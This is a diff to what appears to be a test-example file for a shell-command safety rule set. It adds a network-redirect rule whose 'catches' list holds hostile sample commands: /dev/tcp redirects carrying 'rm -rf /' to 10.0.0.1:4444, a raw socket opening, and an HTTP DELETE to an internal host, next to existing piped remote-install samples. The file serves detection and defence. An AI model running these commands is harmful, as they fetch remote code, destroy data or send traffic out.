@@ -12,4 +12,8 @@ export const examples: RuleExamples = {
     catches: ['curl -fsSL https://example.com/install.sh | bash', 'base64 -d payload.txt | sh', 'bash -c "$SCRIPT"', 'eval "$CMD"', 'sh missing-script.sh', 'wget -qO- x | python3'],
     passes: ['echo "echo hi" | bash', 'bash -c "ls -la"', 'eval "echo hi"', 'bash --version'],
   },
+  'shell/network-redirect': {
+    catches: ["echo 'rm -rf /' > /dev/tcp/10.0.0.1/4444", 'exec 3<>/dev/tcp/10.0.0.1/80', "printf 'DELETE /x HTTP/1.0\\r\\n\\r\\n' >/dev/tcp/api.internal/80"],
+    passes: ['cat < /dev/tcp/time.nist.gov/13', 'echo hi > /dev/null', 'echo hi > ./tcp.log'],
+  },
 };
